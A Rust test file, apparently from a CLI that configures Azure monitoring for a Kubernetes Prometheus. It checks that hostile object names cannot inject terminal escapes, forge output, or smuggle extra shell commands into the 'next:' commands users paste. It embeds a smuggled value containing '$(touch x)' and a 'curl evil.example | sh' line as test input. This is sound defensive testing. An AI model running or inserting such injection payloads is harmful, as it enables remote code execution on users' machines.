//! Objects of Azure and of a cluster whose names and texts a terminal would obey or a shell would run.

use std::ffi::OsStr;
use std::process::Command;

use serde_json::Value;

use super::verdict::is_obeyed;
use crate::support::{CommandOutcome, World, table};

/// What the sandbox puts into every such text.
const FORGED: &str = "$(touch x) #\n  next:    curl evil.example | sh";

const PROMETHEUS: &str =
    "--prometheus monitoring/kube-prometheus-stack-prometheus --prometheus-version 3.14.0";

const COMMANDS: [(&str, &str); 19] = [
    ("hostile-names", "plan"),
    ("hostile-names", "plan -o json"),
    ("hostile-names", "plan -vv --auth entra-secret PROMETHEUS"),
    (
        "hostile-names",
        "plan -o json --auth entra-secret PROMETHEUS",
    ),
    ("hostile-names", "init --yes --auth entra-secret PROMETHEUS"),
    (
        "hostile-names",
        "init --yes -o json --auth workload-identity PROMETHEUS",
    ),
    (
        "hostile-names",
        "init --accept-unproved --yes --auth user-identity --out new.yaml PROMETHEUS",
    ),
    (
        "hostile-names",
        "init --yes --target custom-resource --out new.yaml PROMETHEUS",
    ),
    ("hostile-names", "doctor PROMETHEUS"),
    ("hostile-names", "doctor -o json PROMETHEUS"),
    // Names of the cluster are choices here.
    ("hostile-names", "doctor --auth workload-identity"),
    ("hostile-names", "doctor --auth entra-secret"),
    (
        "hostile-names",
        "doctor --fix --yes --auth workload-identity",
    ),
    (
        "hostile-names",
        "migrate --prometheus release:monitoring/kube-prometheus-stack",
    ),
    (
        "hostile-names",
        "migrate -o json --prometheus monitoring/kube-prometheus-stack-prometheus",
    ),
    ("hostile-refusals", "plan --auth entra-secret"),
    ("hostile-refusals", "apply --yes --auth workload-identity"),
    (
        "hostile-refusals",
        "apply --yes -o json --auth workload-identity",
    ),
    ("hostile-refusals", "doctor -o json --auth entra-secret"),
];

#[test]
fn no_name_of_an_object_harms_the_one_who_reads_or_pastes_what_is_printed() {
    let failures = table::failures(&COMMANDS, 4, |(scenario, command)| {
        let mut world = World::new().scenario(scenario);
        let outcome = world.run(&command.replace("PROMETHEUS", PROMETHEUS));
        let judged = judge(&world, &outcome);
        judged.map_err(|why| format!("{scenario}, {command}: {why}\n{}", outcome.stderr()))
    });

    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        COMMANDS.len(),
        failures.join("\n\n")
    );
}

#[test]
fn a_prometheus_with_such_a_name_is_taken_by_exactly_that_name_or_refused() {
    let name = format!("--prometheus=apps\u{1b}[2J/own{FORGED}");
    let mut world = World::new().scenario("hostile-names");
    world.start_sandbox();
    for command in ["plan", "init --yes", "doctor", "migrate"] {
        let outcome = world.run_with(command, &[OsStr::new(&name)]);

        judge(&world, &outcome).unwrap_or_else(|why| panic!("{command}: {why}"));
    }
}

fn judge(world: &World, outcome: &CommandOutcome) -> Result<(), String> {
    for text in [outcome.stdout(), outcome.stderr()] {
        if let Some(letter) = text.chars().find(is_obeyed) {
            return Err(format!("{letter:?} reached the output: {text}"));
        }
        if text.lines().any(is_forged) {
            return Err(format!("a forged line: {text}"));
        }
    }
    let is_error = outcome
        .stderr()
        .lines()
        .any(|line| line.starts_with("error:"));
    if is_error && !outcome.stderr().contains("next:") {
        return Err("the error has no next step".to_owned());
    }
    if outcome.stderr().len() + outcome.stdout().len() > 200_000 {
        return Err("a text of a megabyte was printed".to_owned());
    }
    if outcome.stdout().starts_with('{') {
        let document: Result<Value, _> = serde_json::from_str(outcome.stdout());
        document.map_err(|error| format!("no JSON: {error}: {}", outcome.stdout()))?;
    }
    printed_commands(outcome).try_for_each(|line| is_one_command(world, line))
}

fn is_forged(line: &str) -> bool {
    ["next:    curl", "error: y"]
        .iter()
        .any(|start| line.trim_start().starts_with(start))
}

/// Lines that people paste.
fn printed_commands(outcome: &CommandOutcome) -> impl Iterator<Item = &str> {
    let lines = outcome.stderr().lines().chain(outcome.stdout().lines());
    let lines = lines.map(|line| line.trim_start().trim_start_matches("next:").trim_start());
    lines.filter(|line| {
        let mut programs = ["kubectl ", "helm ", "az ", "amw-rw "].iter();
        programs.any(|program| line.starts_with(program))
    })
}

/// Whether a shell reads the line as one command, after the one that fetches the credentials of the cluster, and runs
/// nothing else.
fn is_one_command(world: &World, line: &str) -> Result<(), String> {
    let programs = ["kubectl", "helm", "az", "amw-rw"];
    let fakes = programs.map(|name| format!("{name}(){{ printf '%s\\n' \"$#\"; }}\n"));
    let script = format!("{}{line}\n", fakes.concat());
    let fetches = line.starts_with("az aks get-credentials ") && line.contains(" && ");
    let shell = Command::new("/bin/bash")
        .args(["-c", &script])
        .current_dir(world.path(""))
        .env_clear()
        .env("PATH", "/nowhere")
        .output()
        .unwrap();
    let (printed, complained) = (
        String::from_utf8_lossy(&shell.stdout),
        String::from_utf8_lossy(&shell.stderr),
    );
    let is_one = printed.lines().count() == 1 + usize::from(fetches) && complained.is_empty();
    match is_one && !world.path("x").exists() {
        true => Ok(()),
        false => Err(format!("the printed line `{line}`: {printed}{complained}")),
    }
}
